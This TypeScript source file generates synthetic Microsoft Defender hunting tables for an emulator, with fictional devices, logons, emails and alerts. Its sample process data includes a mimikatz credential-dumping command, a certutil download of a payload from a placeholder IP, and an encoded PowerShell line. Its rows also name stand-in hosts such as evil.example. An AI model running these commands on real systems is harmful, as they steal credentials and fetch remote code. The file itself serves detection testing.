import { machineIdOf } from '../endpoint/machines.cjs';
import { knownFile } from '../files.cjs';
import { SeededRandom } from '../random.cjs';

export type ColumnType = 'DateTime' | 'String' | 'Int32' | 'Int64' | 'Double' | 'Boolean' | 'Dynamic' | 'Guid' | 'TimeSpan';

export interface ColumnSchema {
	name: string;
	type: ColumnType;
}

export interface HuntingTable {
	schema: ColumnSchema[];
	/** DateTime cells are Date objects; the engine formats them on output. */
	rows: Array<Record<string, unknown>>;
}

export type HuntingTables = Record<string, HuntingTable>;

/** The devices the rows name; the endpoint API serves them as machines with the same IDs. */
export const huntingDevices = ['ws-0142.contoso.example', 'fs-01.contoso.example', 'laptop-zoe.contoso.example', 'srv-sql-02.contoso.example', 'kiosk-münchen-3.contoso.example'];
const accounts = ['zoe.muller', 'lukasz.nowak', 'jose.garcia', 'svc-backup', 'admin-tier0', 'rémi.dupont'];
const processes = [
	{ file: 'powershell.exe', command: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' },
	{ file: 'powershell.exe', command: 'powershell.exe -File C:\\Scripts\\backup.ps1' },
	{ file: 'cmd.exe', command: 'cmd.exe /c whoami /all' },
	{ file: 'mimikatz.exe', command: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit' },
	{ file: 'rundll32.exe', command: 'rundll32.exe C:\\Users\\Public\\update.dll,Start' },
	{ file: 'chrome.exe', command: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer' },
	{ file: 'certutil.exe', command: 'certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin' },
	{ file: 'excel.exe', command: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde' },
];
const senders = ['billing@contoso-invoices.example', 'newsletter@fabrikam.example', 'ceo@c0ntoso.example', 'hr@contoso.example'];
const subjects = ['Invoice #4471 overdue', 'Your weekly digest', 'Urgent wire transfer — confidentiel', 'Updated holiday policy', 'Réinitialisation du mot de passe'];

/** The Defender tables the emulator serves, with a realistic subset of their real columns. */
const tableColumns: Record<string, ColumnSchema[]> = {
	DeviceProcessEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'ActionType', type: 'String' },
		{ name: 'FileName', type: 'String' }, { name: 'FolderPath', type: 'String' }, { name: 'SHA256', type: 'String' }, { name: 'ProcessId', type: 'Int64' },
		{ name: 'ProcessCommandLine', type: 'String' }, { name: 'AccountName', type: 'String' }, { name: 'AccountDomain', type: 'String' },
		{ name: 'InitiatingProcessFileName', type: 'String' }, { name: 'ReportId', type: 'Int64' },
	],
	DeviceNetworkEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'ActionType', type: 'String' },
		{ name: 'RemoteIP', type: 'String' }, { name: 'RemotePort', type: 'Int32' }, { name: 'RemoteUrl', type: 'String' }, { name: 'LocalIP', type: 'String' },
		{ name: 'Protocol', type: 'String' }, { name: 'InitiatingProcessFileName', type: 'String' }, { name: 'ReportId', type: 'Int64' },
	],
	DeviceLogonEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'ActionType', type: 'String' },
		{ name: 'LogonType', type: 'String' }, { name: 'AccountName', type: 'String' }, { name: 'AccountDomain', type: 'String' }, { name: 'RemoteIP', type: 'String' },
		{ name: 'IsLocalAdmin', type: 'Boolean' }, { name: 'FailureReason', type: 'String' }, { name: 'ReportId', type: 'Int64' }, { name: 'AccountSid', type: 'String' },
	],
	EmailEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'NetworkMessageId', type: 'String' }, { name: 'SenderFromAddress', type: 'String' }, { name: 'RecipientEmailAddress', type: 'String' },
		{ name: 'Subject', type: 'String' }, { name: 'DeliveryAction', type: 'String' }, { name: 'DeliveryLocation', type: 'String' }, { name: 'ThreatTypes', type: 'String' },
		{ name: 'EmailDirection', type: 'String' }, { name: 'AttachmentCount', type: 'Int32' }, { name: 'UrlCount', type: 'Int32' },
	],
	IdentityLogonEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'ActionType', type: 'String' }, { name: 'Application', type: 'String' }, { name: 'LogonType', type: 'String' },
		{ name: 'Protocol', type: 'String' }, { name: 'AccountUpn', type: 'String' }, { name: 'AccountDisplayName', type: 'String' }, { name: 'IPAddress', type: 'String' },
		{ name: 'Location', type: 'String' }, { name: 'FailureReason', type: 'String' }, { name: 'ReportId', type: 'Int64' },
	],
	AlertInfo: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'AlertId', type: 'String' }, { name: 'Title', type: 'String' }, { name: 'Category', type: 'String' },
		{ name: 'Severity', type: 'String' }, { name: 'ServiceSource', type: 'String' }, { name: 'DetectionSource', type: 'String' }, { name: 'AttackTechniques', type: 'String' },
	],
	AlertEvidence: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'AlertId', type: 'String' }, { name: 'Title', type: 'String' }, { name: 'EntityType', type: 'String' },
		{ name: 'EvidenceRole', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'AccountName', type: 'String' }, { name: 'RemoteIP', type: 'String' },
		{ name: 'FileName', type: 'String' }, { name: 'SHA256', type: 'String' }, { name: 'AdditionalFields', type: 'Dynamic' },
		{ name: 'SHA1', type: 'String' }, { name: 'DeviceId', type: 'String' }, { name: 'AccountUpn', type: 'String' }, { name: 'AccountSid', type: 'String' },
		{ name: 'RemoteUrl', type: 'String' }, { name: 'ServiceSource', type: 'String' }, { name: 'DetectionSource', type: 'String' },
	],
	// The tables the investigation templates read (learn.microsoft.com/defender-xdr/advanced-hunting-devicefileevents-table).
	DeviceFileEvents: [
		{ name: 'Timestamp', type: 'DateTime' }, { name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'ActionType', type: 'String' },
		{ name: 'FileName', type: 'String' }, { name: 'FolderPath', type: 'String' }, { name: 'SHA1', type: 'String' }, { name: 'SHA256', type: 'String' },
		{ name: 'MD5', type: 'String' }, { name: 'FileSize', type: 'Int64' }, { name: 'InitiatingProcessFileName', type: 'String' },
		{ name: 'InitiatingProcessAccountName', type: 'String' }, { name: 'ReportId', type: 'Int64' },
	],
	// A snapshot without Timestamp (learn.microsoft.com/defender-xdr/advanced-hunting-devicetvmsoftwarevulnerabilities-table).
	DeviceTvmSoftwareVulnerabilities: [
		{ name: 'DeviceId', type: 'String' }, { name: 'DeviceName', type: 'String' }, { name: 'OSPlatform', type: 'String' }, { name: 'OSVersion', type: 'String' },
		{ name: 'OSArchitecture', type: 'String' }, { name: 'SoftwareVendor', type: 'String' }, { name: 'SoftwareName', type: 'String' }, { name: 'SoftwareVersion', type: 'String' },
		{ name: 'CveId', type: 'String' }, { name: 'VulnerabilitySeverityLevel', type: 'String' }, { name: 'RecommendedSecurityUpdate', type: 'String' },
		{ name: 'RecommendedSecurityUpdateId', type: 'String' },
	],
};

/** A stable security identifier per account, as Active Directory gives each one. */
function accountSid(account: string): string {
	return `S-1-5-21-1721254763-462695806-1538882281-${1100 + accounts.indexOf(account)}`;
}

/** Software with known vulnerabilities; every device has the first, each device some of the others. */
const vulnerableSoftware = [
	{ SoftwareVendor: 'microsoft', SoftwareName: 'windows_11', SoftwareVersion: '10.0.22631.3880', CveId: 'CVE-2024-38063', VulnerabilitySeverityLevel: 'Critical', RecommendedSecurityUpdate: 'August 2024 Security Updates', RecommendedSecurityUpdateId: 'KB5041585' },
	{ SoftwareVendor: 'google', SoftwareName: 'chrome', SoftwareVersion: '126.0.6478.127', CveId: 'CVE-2024-7971', VulnerabilitySeverityLevel: 'High', RecommendedSecurityUpdate: '', RecommendedSecurityUpdateId: '' },
	{ SoftwareVendor: '7-zip', SoftwareName: '7-zip', SoftwareVersion: '23.01', CveId: 'CVE-2024-11477', VulnerabilitySeverityLevel: 'High', RecommendedSecurityUpdate: '', RecommendedSecurityUpdateId: '' },
	{ SoftwareVendor: 'microsoft', SoftwareName: 'office', SoftwareVersion: '16.0.17726.20160', CveId: 'CVE-2024-38200', VulnerabilitySeverityLevel: 'Medium', RecommendedSecurityUpdate: 'August 2024 Security Updates', RecommendedSecurityUpdateId: 'KB5002625' },
];

function vulnerabilityRows(): Array<Record<string, unknown>> {
	return huntingDevices.flatMap((device, deviceIndex) =>
		vulnerableSoftware
			.filter((_software, softwareIndex) => softwareIndex === 0 || (softwareIndex + deviceIndex) % 2 === 0)
			.map((software) => ({ DeviceId: machineIdOf(device), DeviceName: device, OSPlatform: 'Windows11', OSVersion: '10.0', OSArchitecture: 'x64', ...software })),
	);
}

function hex(random: SeededRandom, length: number): string {
	let text = '';
	while (text.length < length) text += Math.floor(random.next() * 16).toString(16);
	return text;
}

function rowFor(table: string, random: SeededRandom, timestamp: Date, index: number): Record<string, unknown> {
	const device = random.pick(huntingDevices);
	const account = random.pick(accounts);
	const ip = `203.0.113.${random.integer(1, 254)}`;
	const common = { Timestamp: timestamp, ReportId: 10_000 + index };
	switch (table) {
		case 'DeviceProcessEvents': {
			const process = random.pick(processes);
			return { ...common, DeviceId: machineIdOf(device), DeviceName: device, ActionType: 'ProcessCreated', FileName: process.file, FolderPath: `C:\\Windows\\System32\\${process.file}`, SHA256: hex(random, 64), ProcessId: random.integer(400, 30000), ProcessCommandLine: process.command, AccountName: account, AccountDomain: 'contoso', InitiatingProcessFileName: random.pick(['explorer.exe', 'winword.exe', 'services.exe', 'cmd.exe']) };
		}
		case 'DeviceNetworkEvents':
			return { ...common, DeviceId: machineIdOf(device), DeviceName: device, ActionType: random.pick(['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted']), RemoteIP: ip, RemotePort: random.pick([443, 80, 445, 3389, 8080]), RemoteUrl: random.pick(['login.contoso.example', 'cdn.fabrikam.example', '', 'evil.example']), LocalIP: `10.0.0.${random.integer(2, 250)}`, Protocol: 'Tcp', InitiatingProcessFileName: random.pick(['chrome.exe', 'powershell.exe', 'svchost.exe']) };
		case 'DeviceLogonEvents': {
			const failed = random.chance(0.3);
			return { ...common, DeviceId: machineIdOf(device), DeviceName: device, ActionType: failed ? 'LogonFailed' : 'LogonSuccess', LogonType: random.pick(['Interactive', 'Network', 'RemoteInteractive']), AccountName: account, AccountDomain: 'contoso', RemoteIP: ip, IsLocalAdmin: random.chance(0.2), FailureReason: failed ? random.pick(['InvalidUserNameOrPassword', 'AccountLocked', 'UserNotAllowedToLogon']) : '', AccountSid: accountSid(account) };
		}
		case 'EmailEvents':
			return { Timestamp: timestamp, NetworkMessageId: `${hex(random, 8)}-${hex(random, 4)}-${hex(random, 4)}-${hex(random, 4)}-${hex(random, 12)}`, SenderFromAddress: random.pick(senders), RecipientEmailAddress: `${account}@contoso.example`, Subject: random.pick(subjects), DeliveryAction: random.pick(['Delivered', 'Blocked', 'Junked']), DeliveryLocation: random.pick(['Inbox/folder', 'Quarantine', 'Junk folder']), ThreatTypes: random.pick(['', '', 'Phish', 'Malware', 'Spam']), EmailDirection: 'Inbound', AttachmentCount: random.integer(0, 3), UrlCount: random.integer(0, 5) };
		case 'IdentityLogonEvents':
			return { ...common, ActionType: random.pick(['LogonSuccess', 'LogonFailed']), Application: random.pick(['Active Directory', 'Microsoft 365', 'Azure Portal']), LogonType: random.pick(['Login:interactive', 'Resource access']), Protocol: random.pick(['Kerberos', 'NTLM', 'OAuth2:Authorize']), AccountUpn: `${account}@contoso.example`, AccountDisplayName: account, IPAddress: ip, Location: random.pick(['DE', 'PL', 'BR', 'US', 'São Paulo']), FailureReason: random.pick(['', '', 'WrongPassword', 'AccountLocked']) };
		case 'AlertInfo':
			return { Timestamp: timestamp, AlertId: `da${hex(random, 18)}_${random.integer(100000000, 999999999)}`, Title: random.pick(["'Mimikatz' hacktool was detected", 'Suspicious PowerShell command line', 'Phishing email delivered', 'Password spray attack']), Category: random.pick(['CredentialAccess', 'Execution', 'InitialAccess']), Severity: random.pick(['Low', 'Medium', 'High', 'Informational']), ServiceSource: random.pick(['Microsoft Defender for Endpoint', 'Microsoft Defender for Office 365', 'Microsoft Defender for Identity']), DetectionSource: random.pick(['EDR', 'Antivirus', 'Custom detection']), AttackTechniques: random.pick(['["OS Credential Dumping (T1003)"]', '["PowerShell (T1059.001)"]', '[]']) };
		case 'DeviceFileEvents': {
			const file = random.pick(processes).file;
			return { ...common, DeviceId: machineIdOf(device), DeviceName: device, ActionType: random.pick(['FileCreated', 'FileModified', 'FileRenamed']), FileName: file, FolderPath: `C:\\Users\\${account}\\Downloads\\${file}`, ...hashColumnsOf(file), FileSize: random.integer(20_000, 9_000_000), InitiatingProcessFileName: random.pick(['chrome.exe', 'outlook.exe', 'explorer.exe']), InitiatingProcessAccountName: account };
		}
		default: {
			const entityType = random.pick(['Machine', 'User', 'Ip', 'File']);
			const file = random.pick(processes).file;
			return { Timestamp: timestamp, AlertId: `da${hex(random, 18)}_${random.integer(100000000, 999999999)}`, Title: random.pick(['Suspicious PowerShell command line', 'Phishing email delivered']), EntityType: entityType, EvidenceRole: random.pick(['Impacted', 'Related']), DeviceName: device, AccountName: account, RemoteIP: ip, FileName: file, SHA256: knownFile(file).sha256, SHA1: knownFile(file).sha1, AdditionalFields: { Type: entityType.toLowerCase(), Role: 'Related', DetectionStatus: random.pick(['Detected', 'Blocked', 'Prevented']) }, DeviceId: machineIdOf(device), AccountUpn: `${account}@contoso.example`, AccountSid: accountSid(account), RemoteUrl: ['evil.example', 'http://update-check.contoso-cdn.example/payload.ps1', ''][index % 3], ServiceSource: 'Microsoft Defender for Endpoint', DetectionSource: 'EDR' };
		}
	}
}

/** A known file's hashes under DeviceFileEvents' column names. */
function hashColumnsOf(fileName: string): Record<'SHA1' | 'SHA256' | 'MD5', string> {
	const file = knownFile(fileName);
	return { SHA1: file.sha1, SHA256: file.sha256, MD5: file.md5 };
}

/** Deterministic Defender tables over the 30 days before `now`. */
export function createHuntingTables(options: { seed: number; now: Date; rowsPerTable?: number }): HuntingTables {
	const rowCount = options.rowsPerTable ?? 300;
	const thirtyDays = 30 * 24 * 3600_000;
	const tables: HuntingTables = {};
	Object.entries(tableColumns).forEach(([name, schema], tableIndex) => {
		if (name === 'DeviceTvmSoftwareVulnerabilities') {
			tables[name] = { schema, rows: vulnerabilityRows() };
			return;
		}
		const random = new SeededRandom(options.seed * 31 + tableIndex);
		const rows: Array<Record<string, unknown>> = [];
		for (let index = 0; index < rowCount; index++) {
			const timestamp = new Date(options.now.getTime() - Math.floor(random.next() * thirtyDays));
			rows.push(rowFor(name, random, timestamp, index));
		}
		rows.sort((first, second) => (second.Timestamp as Date).getTime() - (first.Timestamp as Date).getTime());
		tables[name] = { schema, rows };
	});
	return tables;
}
